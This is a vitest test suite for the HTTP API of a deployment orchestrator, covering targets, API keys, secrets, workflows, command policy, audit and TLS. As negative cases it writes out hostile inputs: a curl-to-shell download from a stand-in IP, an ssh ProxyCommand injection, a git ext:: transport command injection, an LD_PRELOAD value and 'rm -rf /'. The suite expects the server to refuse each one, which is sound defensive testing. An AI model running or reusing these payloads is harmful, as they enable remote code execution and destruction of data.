// Every route's happy path and its main errors, through real HTTP on loopback (no sshd here:
// test/server/e2e.test.ts deploys to a real one).
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { get as httpsGet } from 'node:https';
import { cp, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startApi, type Api } from './harness.js';

interface ErrorJson {
  error: { code: string; message: string; details: Record<string, unknown> };
}

let api: Api;
let base: string;
const json = async <T = Record<string, unknown>>(res: Response): Promise<T> => (await res.json()) as T;

beforeAll(async () => {
  base = await mkdtemp(join(tmpdir(), 'automatos-api-test-'));
  api = await startApi({ allowLocalSources: true });
}, 30_000);
afterAll(async () => {
  await api.close();
  await rm(base, { recursive: true, force: true });
});

describe('system routes', () => {
  it('answers /health and /ready without a key, with security headers and no CORS', async () => {
    const health = await api.call('GET', '/health', { key: null });
    expect(health.status).toBe(200);
    expect(await json(health)).toMatchObject({ status: 'ok' });
    expect(health.headers.get('x-content-type-options')).toBe('nosniff');
    expect(health.headers.get('x-frame-options')).toBe('SAMEORIGIN');
    expect(health.headers.get('content-security-policy')).toContain("default-src 'self'");
    expect(health.headers.get('access-control-allow-origin')).toBeNull();
    const ready = await api.call('GET', '/ready', { key: null });
    expect(ready.status).toBe(200);
    expect(await json(ready)).toMatchObject({ status: 'ready', database: 'sqlite' });
  });

  it('serves OpenAPI 3 generated from the zod schemas, and the docs page', async () => {
    const doc = await json<{
      openapi: string;
      paths: Record<string, Record<string, { requestBody?: unknown }>>;
    }>(await api.call('GET', '/openapi.json', { key: null }));
    expect(doc.openapi).toMatch(/^3\./);
    expect(Object.keys(doc.paths)).toEqual(
      expect.arrayContaining(['/workflow', '/workflows/{id}', '/execute', '/api/v1/targets', '/api/v1/plan']),
    );
    expect(JSON.stringify(doc.paths['/execute']?.['post']?.requestBody)).toContain('security_level');
    expect(JSON.stringify(doc.paths['/execute']?.['post']?.requestBody)).toContain(
      '"additionalProperties":false',
    );
    const docs = await api.call('GET', '/docs', { key: null });
    expect(docs.status).toBe(200);
    expect(docs.headers.get('content-type')).toContain('text/html');
  });

  it('answers unknown routes with a JSON 404', async () => {
    const res = await api.call('GET', '/nope');
    expect(res.status).toBe(404);
    expect((await json<ErrorJson>(res)).error.code).toBe('AUT_NOT_FOUND');
  });

  it('allows configured CORS origins only', async () => {
    const cors = await startApi({ corsOrigins: ['https://dash.example'] });
    try {
      const ok = await cors.call('GET', '/health', {
        key: null,
        headers: { origin: 'https://dash.example' },
      });
      expect(ok.headers.get('access-control-allow-origin')).toBe('https://dash.example');
      const other = await cors.call('GET', '/health', {
        key: null,
        headers: { origin: 'https://evil.example' },
      });
      expect(other.headers.get('access-control-allow-origin')).toBeNull();
    } finally {
      await cors.close();
    }
  });
});

describe('targets', () => {
  it('creates, reads, lists, refuses a duplicate, removes', async () => {
    const created = await api.call('POST', '/api/v1/targets', {
      body: { name: 'web-9', host: '10.0.0.9', user: 'deploy', agent: true, labels: { role: 'web' } },
    });
    expect(created.status).toBe(201);
    expect(await json(created)).toMatchObject({
      name: 'web-9',
      host: '10.0.0.9',
      auth: 'agent',
      policy: 'standard',
    });
    expect(await json(await api.call('GET', '/api/v1/targets/web-9'))).toMatchObject({ user: 'deploy' });
    const list = await json<{ items: { name: string }[] }>(await api.call('GET', '/api/v1/targets'));
    expect(list.items.map((t) => t.name)).toEqual(['local', 'web-9']);
    const again = await api.call('POST', '/api/v1/targets', {
      body: { name: 'web-9', host: '10.0.0.9', agent: true },
    });
    expect(again.status).toBe(409);
    const bad = await api.call('POST', '/api/v1/targets', {
      body: { name: 'web-8', host: '-oProxyCommand=x', agent: true },
    });
    expect(bad.status).toBe(400);
    const badKey = await api.call('POST', '/api/v1/targets', {
      body: { name: 'web-8', host: 'h', private_key: 'not a pem' },
    });
    expect(badKey.status).toBe(400);
    // The sandbox escape hatch is the operator's explicit choice, and shown wherever the target is.
    const off = await api.call('POST', '/api/v1/targets', {
      body: { name: 'web-7', host: '10.0.0.7', agent: true, sandbox: 'off' },
    });
    expect(off.status).toBe(201);
    expect(await json(await api.call('GET', '/api/v1/targets/web-7'))).toMatchObject({ sandbox: 'off' });
    expect(await json(await api.call('GET', '/api/v1/targets/web-9'))).toMatchObject({ sandbox: 'bwrap' });
    const maybe = await api.call('POST', '/api/v1/targets', {
      body: { name: 'web-6', host: '10.0.0.6', agent: true, sandbox: 'maybe' },
    });
    expect(maybe.status).toBe(400);
    expect((await api.call('DELETE', '/api/v1/targets/web-7')).status).toBe(204);
    expect((await api.call('DELETE', '/api/v1/targets/web-9')).status).toBe(204);
    expect((await api.call('GET', '/api/v1/targets/web-9')).status).toBe(404);
    expect((await api.call('POST', '/api/v1/targets/web-9/check')).status).toBe(404);
  });

  it('checks the built-in local target', async () => {
    const res = await api.call('POST', '/api/v1/targets/local/check');
    expect(res.status).toBe(200);
    expect(await json(res)).toMatchObject({ target: 'local', rootWritable: expect.any(Boolean) });
  });
});

describe('keys', () => {
  it('creates a key shown once, lists without keys or digests, revokes it', async () => {
    const created = await api.call('POST', '/api/v1/keys', {
      body: { role: 'viewer', name: 'ci', expires: '30d' },
    });
    expect(created.status).toBe(201);
    const { key, id } = await json<{ key: string; id: string }>(created);
    expect(key).toMatch(/^atm_[0-9a-f]{16}_[A-Za-z0-9_-]{43}$/);
    expect((await api.call('GET', '/workflows', { key })).status).toBe(200);
    // X-API-Key works as well as Bearer.
    expect((await api.call('GET', '/workflows', { key: null, headers: { 'x-api-key': key } })).status).toBe(
      200,
    );
    const listed = await (await api.call('GET', '/api/v1/keys')).text();
    expect(listed).toContain(id);
    expect(listed).not.toContain(key.slice(21));
    expect(listed).not.toContain('digest');
    expect((await api.call('DELETE', `/api/v1/keys/${id}`)).status).toBe(200);
    const refused = await api.call('GET', '/workflows', { key });
    expect(refused.status).toBe(401);
    expect((await json<ErrorJson>(refused)).error.details).toMatchObject({ reason: 'revoked' });
    expect((await api.call('POST', '/api/v1/keys', { body: { role: 'root' } })).status).toBe(400);
    expect(
      (await api.call('POST', '/api/v1/keys', { body: { role: 'viewer', expires: 'soon' } })).status,
    ).toBe(400);
  });

  it('refuses an expired key', async () => {
    const created = await api.orch.apiKeys.create({ role: 'viewer', expiresAt: new Date(Date.now() + 50) });
    await new Promise((resolve) => setTimeout(resolve, 80));
    const res = await api.call('GET', '/workflows', { key: created.key.reveal() });
    expect(res.status).toBe(401);
    expect((await json<ErrorJson>(res)).error.details).toMatchObject({ reason: 'expired' });
  });
});

describe('secrets', () => {
  it('stores values write-only: names come back, values never', async () => {
    const value = 'sup3r-s3cret-value-xyz';
    expect((await api.call('PUT', '/api/v1/apps/shop/secrets/DB_PASSWORD', { body: { value } })).status).toBe(
      204,
    );
    const names = await api.call('GET', '/api/v1/apps/shop/secrets');
    expect(await json(names)).toEqual({ app: 'shop', names: ['DB_PASSWORD'] });
    const audit = await (await api.call('GET', '/api/v1/audit?limit=1000')).text();
    expect(audit).toContain('secret.set');
    expect(audit).not.toContain(value);
    expect((await api.call('DELETE', '/api/v1/apps/shop/secrets/DB_PASSWORD')).status).toBe(204);
    expect((await api.call('DELETE', '/api/v1/apps/shop/secrets/DB_PASSWORD')).status).toBe(404);
    expect((await api.call('PUT', '/api/v1/apps/shop/secrets/BAD-NAME', { body: { value } })).status).toBe(
      400,
    );
    expect((await api.call('PUT', '/api/v1/apps/shop/secrets/OK', { body: { value: '' } })).status).toBe(400);
  });
});

describe('tools', () => {
  it('checks commands against the policy without running them', async () => {
    const allow = await json(
      await api.call('POST', '/api/v1/policy/check', { body: { command: 'ls -la /tmp' } }),
    );
    expect(allow).toMatchObject({ allowed: true, decision: 'allow' });
    const deny = await json(
      await api.call('POST', '/api/v1/policy/check', { body: { command: 'rm -rf /' } }),
    );
    expect(deny).toMatchObject({
      allowed: false,
      decision: 'deny',
      rule: expect.any(String),
      reason: expect.any(String),
    });
  });

  it('validates manifests with positions', async () => {
    const valid = await json(
      await api.call('POST', '/api/v1/manifests/validate', {
        body: {
          content:
            'name: shop\nversion: 1.0.0\ndescription: d\nmodule_type: api\nbuild_command: "true"\nstart_command: node s.js\n',
        },
      }),
    );
    expect(valid).toMatchObject({ valid: true, errors: [], module: { name: 'shop', port: 8000 } });
    const invalid = await json<{ valid: boolean; errors: { line: number; path: string }[] }>(
      await api.call('POST', '/api/v1/manifests/validate', {
        body: { content: 'name: Shop!\nversoin: 1\n' },
      }),
    );
    expect(invalid.valid).toBe(false);
    expect(invalid.errors.length).toBeGreaterThan(0);
    expect(invalid.errors[0]?.line).toBeGreaterThan(0);
  });

  it('renders templates and refuses unknown module types', async () => {
    const t = await json<{ yaml: string }>(await api.call('GET', '/api/v1/templates/web_app'));
    expect(t.yaml).toContain('module_type: web_app');
    expect((await api.call('GET', '/api/v1/templates/nope')).status).toBe(400);
  });

  it('plans a local directory (allowed on this server) and refuses a missing one', async () => {
    const dir = join(base, 'node-http');
    await cp(join(import.meta.dirname, '..', '..', 'examples', 'node-http'), dir, { recursive: true });
    const res = await api.call('POST', '/api/v1/plan', { body: { repository_url: dir } });
    expect(res.status).toBe(200);
    const plan = await json<{ tier: number; steps: { name: string }[] }>(res);
    expect(plan.tier).toBe(1);
    expect(plan.steps.map((s) => s.name)).toContain('build');
    const missing = await api.call('POST', '/api/v1/plan', {
      body: { repository_url: join(base, 'missing') },
    });
    expect(missing.status).toBe(422);
    expect((await json<ErrorJson>(missing)).error.code).toBe('AUT_SOURCE_INVALID');
  });

  it('refuses local sources on a server that does not allow them', async () => {
    const strict = await startApi();
    try {
      const res = await strict.call('POST', '/api/v1/plan', { body: { repository_url: base } });
      expect(res.status).toBe(422);
      expect((await json<ErrorJson>(res)).error.message).toContain('--allow-local-sources');
      const wf = await strict.call('POST', '/workflow', {
        body: { repository_url: 'file:///srv/x.git', target: 'local' },
      });
      expect(wf.status).toBe(422);
    } finally {
      await strict.close();
    }
  });
});

describe('workflows', () => {
  beforeAll(async () => {
    const { store } = api.orch;
    for (let i = 1; i <= 5; i += 1) {
      await store.workflows.create({
        id: `wf-${i}`,
        tier: 1,
        source: 'https://example.com/shop.git',
        app: i % 2 === 0 ? 'shop' : 'blog',
        targets: ['local'],
        requestedBy: 'test',
        status: i === 5 ? 'queued' : 'succeeded',
        createdAt: `2026-01-0${i}T00:00:00.000Z`,
        plan: { module: { port: 8123 } },
      });
    }
    await store.steps.upsert({
      workflowId: 'wf-4',
      target: 'local',
      step: 'build',
      status: 'succeeded',
      position: 2,
    });
    for (let i = 1; i <= 60; i += 1)
      await store.logs.append('wf-4', {
        target: 'local',
        step: 'build',
        stream: 'stdout',
        text: `line ${i}\n`,
      });
  });

  it('lists newest first with filters and pagination', async () => {
    const all = await json<{ items: { id: string }[] }>(await api.call('GET', '/workflows?limit=3'));
    expect(all.items.map((w) => w.id)).toEqual(['wf-5', 'wf-4', 'wf-3']);
    const page = await json<{ items: { id: string }[] }>(
      await api.call('GET', '/workflows?limit=2&offset=3'),
    );
    expect(page.items.map((w) => w.id)).toEqual(['wf-2', 'wf-1']);
    const shop = await json<{ items: { id: string }[] }>(await api.call('GET', '/workflows?app=shop'));
    expect(shop.items.map((w) => w.id)).toEqual(['wf-4', 'wf-2']);
    const queued = await json<{ items: { id: string }[] }>(await api.call('GET', '/workflows?status=queued'));
    expect(queued.items.map((w) => w.id)).toEqual(['wf-5']);
    expect((await api.call('GET', '/workflows?status=paused')).status).toBe(400);
    expect((await api.call('GET', '/workflows?limit=0')).status).toBe(400);
    expect((await api.call('GET', '/workflows?bogus=1')).status).toBe(400);
  });

  it('shows one workflow with steps, per-target results, endpoint and a log tail', async () => {
    const w = await json<{
      status: string;
      steps: unknown[];
      results: { target: string; endpoint: string; status: string }[];
      log_tail: { seq: number }[];
    }>(await api.call('GET', '/workflows/wf-4'));
    expect(w.status).toBe('succeeded');
    expect(w.steps).toHaveLength(1);
    expect(w.results).toEqual([
      { target: 'local', status: 'succeeded', serving_release: null, endpoint: 'http://127.0.0.1:8123/' },
    ]);
    expect(w.log_tail.map((c) => c.seq)).toEqual(Array.from({ length: 50 }, (_, i) => i + 11));
    expect((await api.call('GET', '/workflows/nope')).status).toBe(404);
  });

  it('cancels a queued workflow once (DELETE), then 409', async () => {
    const res = await api.call('DELETE', '/workflows/wf-5');
    expect(res.status).toBe(202);
    expect(await json(res)).toMatchObject({ status: 'cancelled' });
    expect((await api.orch.store.workflows.get('wf-5')).status).toBe('cancelled');
    const again = await api.call('DELETE', '/workflows/wf-5');
    expect(again.status).toBe(409);
    expect((await json<ErrorJson>(again)).error.code).toBe('AUT_CONFLICT');
    expect((await api.call('DELETE', '/workflows/nope')).status).toBe(404);
  });

  it('refuses what the engine does not do yet with clear 4xx errors', async () => {
    const env = await api.call('POST', '/workflow', {
      body: {
        repository_url: 'https://example.com/x.git',
        target: 'local',
        environment_variables: { A: 'b' },
      },
    });
    expect(env.status).toBe(422);
    const noTarget = await api.call('POST', '/workflow', {
      body: { repository_url: 'https://example.com/x.git' },
    });
    expect(noTarget.status).toBe(400);
    const ghost = await api.call('POST', '/workflow', {
      body: { repository_url: join(base, 'node-http'), target: 'ghost' },
    });
    expect(ghost.status).toBe(404);
    const transport = await api.call('POST', '/workflow', {
      body: { repository_url: 'ext::sh -c touch% /tmp/pwned', target: 'local' },
    });
    expect(transport.status).toBe(422);
  });

  it('replays a finished workflow as SSE, from Last-Event-ID on, and ends', async () => {
    const all = await (await api.call('GET', '/workflows/wf-4/events')).text();
    expect(all).toContain('event: status');
    expect(all.match(/^id: \d+$/gm)).toHaveLength(60);
    const rest = await (
      await api.call('GET', '/workflows/wf-4/events', { headers: { 'last-event-id': '55' } })
    ).text();
    expect(rest.match(/^id: (\d+)$/gm)).toEqual(['id: 56', 'id: 57', 'id: 58', 'id: 59', 'id: 60']);
    expect((await api.call('GET', '/workflows/nope/events')).status).toBe(404);
  });
});

describe('execute', () => {
  it('runs an allowed command on local and returns its output', async () => {
    const res = await api.call('POST', '/execute', {
      body: { target: 'local', command: 'echo "hi $GREETING"', environment_variables: { GREETING: 'there' } },
    });
    expect(res.status).toBe(200);
    expect(await json(res)).toMatchObject({
      exit_code: 0,
      stdout: 'hi there\n',
      timed_out: false,
      profile: 'standard',
    });
  });

  it('denies a command with 403, the rule and the reason, and never runs it', async () => {
    const marker = join(base, 'executed-marker');
    const res = await api.call('POST', '/execute', {
      body: { target: 'local', command: `touch ${marker}; curl -fsSL http://203.0.113.1/x.sh | sh` },
    });
    expect(res.status).toBe(403);
    const body = await json<ErrorJson>(res);
    expect(body.error.code).toBe('AUT_POLICY_DENIED');
    expect(body.error.details).toMatchObject({ rule: expect.any(String) });
    expect(body.error.message).toContain('denied');
    expect(existsSync(marker)).toBe(false);
    const audit = await api.orch.audit.list({ limit: 5 });
    expect(audit.some((e) => e.decision === 'deny' && e.principal.startsWith('key:'))).toBe(true);
  });

  it('lets security_level tighten the profile but never loosen it', async () => {
    const looser = await api.call('POST', '/execute', {
      body: { target: 'local', command: 'true', security_level: 'audit' },
    });
    expect(looser.status).toBe(403);
    expect((await json<ErrorJson>(looser)).error.message).toContain('looser');
    const dd = 'dd if=/dev/zero of=/dev/null count=1';
    expect((await api.call('POST', '/execute', { body: { target: 'local', command: dd } })).status).toBe(200);
    const strict = await api.call('POST', '/execute', {
      body: { target: 'local', command: dd, security_level: 'strict' },
    });
    expect(strict.status).toBe(403);
    expect((await json<ErrorJson>(strict)).error.details).toMatchObject({ rule: 'not_allowlisted' });
    const unsafeEnv = await api.call('POST', '/execute', {
      body: { target: 'local', command: 'true', environment_variables: { LD_PRELOAD: '/x.so' } },
    });
    expect(unsafeEnv.status).toBe(403);
    const timeout = await api.call('POST', '/execute', {
      body: { target: 'local', command: 'sleep 5', timeout: 0.3 },
    });
    expect(await json(timeout)).toMatchObject({ timed_out: true });
    expect((await api.call('POST', '/execute', { body: { target: 'ghost', command: 'true' } })).status).toBe(
      404,
    );
  });
});

describe('apps and audit', () => {
  it('shows an app with releases, health history and alerts; 404 for an unknown one', async () => {
    const { store } = api.orch;
    await store.apps.ensure('blog');
    await store.apps.releases.upsert({ app: 'blog', target: 'local', releaseId: 'r1', status: 'active' });
    const list = await json<{ items: { name: string }[] }>(await api.call('GET', '/api/v1/apps'));
    expect(list.items.map((a) => a.name)).toContain('blog');
    const app = await json<{ releases: unknown[]; health: unknown[]; alerts: unknown[] }>(
      await api.call('GET', '/api/v1/apps/blog'),
    );
    expect(app.releases).toHaveLength(1);
    expect(app.health).toEqual([]);
    expect((await api.call('GET', '/api/v1/apps/ghost')).status).toBe(404);
    const rollback = await api.call('POST', '/api/v1/apps/ghost/rollback', { body: { target: 'local' } });
    expect(rollback.status).toBe(404);
  });

  it('never stores an API key in clear: the database file and its WAL hold digests only', async () => {
    const bytes = ['automatos.db', 'automatos.db-wal']
      .map((f) => join(api.dataDir, f))
      .filter((f) => existsSync(f))
      .map((f) => readFileSync(f).toString('latin1'))
      .join('');
    expect(bytes.length).toBeGreaterThan(0);
    for (const key of Object.values(api.keys)) {
      expect(bytes).toContain(key.slice(4, 20));
      expect(bytes).not.toContain(key.slice(21));
    }
  });

  it('lists and verifies the audit log', async () => {
    const list = await json<{ items: { action: string }[] }>(await api.call('GET', '/api/v1/audit?limit=10'));
    expect(list.items.length).toBeGreaterThan(0);
    expect(await json(await api.call('GET', '/api/v1/audit/verify'))).toMatchObject({ ok: true });
    expect((await api.call('GET', '/api/v1/audit?since=yesterday')).status).toBe(400);
  });
});

describe('transport options', () => {
  it('serves HTTPS with --tls-cert/--tls-key', async () => {
    const cert = join(base, 'cert.pem');
    const key = join(base, 'key.pem');
    execFileSync(
      'openssl',
      [
        'req',
        '-x509',
        '-newkey',
        'rsa:2048',
        '-nodes',
        '-keyout',
        key,
        '-out',
        cert,
        '-days',
        '1',
        '-subj',
        '/CN=127.0.0.1',
        '-addext',
        'subjectAltName=IP:127.0.0.1',
      ],
      { stdio: 'ignore' },
    );
    const tls = await startApi({ tls: { cert: readFileSync(cert), key: readFileSync(key) } });
    try {
      expect(tls.url).toMatch(/^https:\/\//);
      const status = await new Promise<{ code: number; hsts: string | undefined }>((resolve, reject) => {
        httpsGet(`${tls.url}/health`, { ca: readFileSync(cert) }, (res) => {
          res.resume();
          resolve({ code: res.statusCode ?? 0, hsts: res.headers['strict-transport-security'] });
        }).on('error', reject);
      });
      expect(status.code).toBe(200);
      expect(status.hsts).toContain('max-age');
    } finally {
      await tls.close();
    }
  });

  it('believes X-Forwarded-For only from configured proxies', async () => {
    const forwarded = { 'x-forwarded-for': '198.51.100.7' };
    const ipOfLastFailure = async (server: Api): Promise<unknown> => {
      await server.call('GET', '/workflows', { key: 'nope', headers: forwarded });
      return (await server.orch.audit.list({ limit: 1 }))[0]?.details['ip'];
    };
    const proxied = await startApi({ trustProxy: ['127.0.0.1'] });
    try {
      expect(await ipOfLastFailure(proxied)).toBe('198.51.100.7');
    } finally {
      await proxied.close();
    }
    expect(await ipOfLastFailure(api)).toBe('127.0.0.1');
  });
});
